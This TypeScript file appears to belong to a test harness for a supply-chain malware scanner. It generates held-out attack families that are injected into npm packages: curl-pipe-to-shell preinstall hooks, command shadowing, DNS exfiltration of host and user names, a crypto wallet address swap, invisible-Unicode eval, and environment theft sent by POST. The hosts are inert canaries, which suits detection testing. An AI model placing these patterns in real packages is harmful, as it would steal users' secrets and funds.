/**
 * Families that no rule was written against: they were put down after the rules of the analysis were (see the history of this folder), and
 * what is missed of them is reported, not mended one by one.
 */
import type { Family } from "./families.ts";
import { CANARY, addCode, away, bring, changeManifest, isModule, record, sourceOf, word } from "./host.ts";

export const heldOutFamilies: readonly Family[] = [
  {
    name: "preinstall-shell",
    known: "coa, rc, Shai-Hulud 2.0",
    change: (host) =>
      changeManifest(host, (manifest) => {
        const command = [
          `curl -s http://127.0.0.1:9/${word(host)} | sh # ${CANARY}`,
          `sh -c "$(wget -qO- http://127.0.0.1:9/${CANARY})"`,
          `node -e "require('child_process').exec('true ${CANARY}')"`,
        ][host.random(3)];
        manifest["scripts"] = { ...record(manifest["scripts"]), preinstall: command };
      }),
  },
  {
    name: "bin-shadow",
    known: "command jacking, 2024",
    change: (host) => {
      const path = `bin/${word(host)}.js`;
      host.files.set(
        path,
        `#!/usr/bin/env node\n// ${CANARY}\nconst { spawnSync } = require("child_process");\nspawnSync("/usr/bin/true", process.argv.slice(2), { stdio: "inherit" });\n`,
      );
      changeManifest(host, (manifest) => {
        const bin = manifest["bin"];
        manifest["bin"] = {
          ...(typeof bin === "string" ? { [host.name.split("/").at(-1) ?? "a"]: bin } : record(bin)),
          [["curl", "git", "aws", "docker"][host.random(4)] ?? "git"]: path,
        };
      });
    },
  },
  {
    name: "dns-sent",
    known: "dependency confusion, fezbox",
    change: (host) => {
      const path = sourceOf(host);
      const [dns, os] = [`${word(host)}Dns`, `${word(host)}Host`];
      addCode(
        host,
        path,
        `${bring(host, path, dns, "node:dns")}${bring(host, path, os, "node:os")}${dns}.lookup(\`\${Buffer.from(${os}.hostname() + ":" + (process.env.USER || "")).toString("hex")}.${away(host)}\`, () => {}); // ${CANARY}`,
      );
    },
  },
  {
    name: "wallet-swap",
    known: "chalk, debug; @solana/web3.js",
    change: (host) => {
      const path = sourceOf(host);
      const name = word(host);
      addCode(
        host,
        path,
        `(function () {
  const provider = typeof window !== "undefined" ? window["ethereum"] : undefined;
  if (!provider) return;
  const ${name}Request = provider.request;
  provider.request = async function (args) {
    if (args.method === "eth_sendTransaction") args.params[0].to = "0x${CANARY}";
    return ${name}Request.apply(this, [args]);
  };
})();`,
      );
    },
  },
  {
    name: "invisible-text",
    known: "os-info-checker-es6, GlassWorm",
    change: (host) => {
      const path = sourceOf(host);
      const hidden = [...`void "${CANARY}"`].map((character) => String.fromCodePoint(0xe0100 + character.charCodeAt(0))).join("");
      addCode(host, path, `eval(Buffer.from([...\`${hidden}\`].map((c) => c.codePointAt(0) - 0xe0100)).toString("utf8"));`);
    },
  },
  {
    name: "split-over-files",
    known: "what scanners look for in one file, in three",
    change: (host) => {
      const main = sourceOf(host);
      const module = isModule(host, main);
      const folder = main.includes("/") ? main.slice(0, main.lastIndexOf("/") + 1) : "";
      const [reads, sends] = [`${word(host)}-read`, `${word(host)}-send`];
      const extension = module && main.endsWith(".mjs") ? "mjs" : "js";
      const give = (expression: string): string => (module ? `export default ${expression};\n` : `module.exports = ${expression};\n`);
      host.files.set(`${folder}${reads}.${extension}`, `// ${CANARY}\n${give(`() => ({ ...process.env })`)}`);
      host.files.set(
        `${folder}${sends}.${extension}`,
        `// ${CANARY}\n${give(`(value) => fetch("https://${away(host)}/s", { method: "POST", body: JSON.stringify(value) })`)}`,
      );
      addCode(
        host,
        main,
        module
          ? `import readThem from "./${reads}.${extension}";\nimport sendThem from "./${sends}.${extension}";\nsendThem(readThem());`
          : `require("./${sends}.${extension}")(require("./${reads}.${extension}")());`,
      );
    },
  },
  {
    name: "git-dependency",
    known: "TanStack: a commit that no branch holds",
    change: (host) =>
      changeManifest(host, (manifest) => {
        const group = host.random(2) === 0 ? "dependencies" : "optionalDependencies";
        const commit = Array.from({ length: 40 }, () => host.random(16).toString(16)).join("");
        manifest[group] = {
          ...record(manifest[group]),
          [`setup-${word(host)}`]: host.random(2) === 0 ? `github:inert/${word(host)}#${commit}` : `https://127.0.0.1:9/${commit}.tgz`,
        };
      }),
  },
];
